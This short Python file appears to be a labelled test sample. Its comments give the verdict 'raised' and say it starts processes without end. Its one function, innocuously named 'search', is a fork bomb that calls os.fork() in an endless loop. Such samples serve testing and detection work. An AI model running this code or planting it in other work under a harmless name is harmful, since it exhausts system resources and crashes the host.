# verdict: raised
# earns: nothing
# starts processes without end

import os


def search(node):
    while True:
        os.fork()
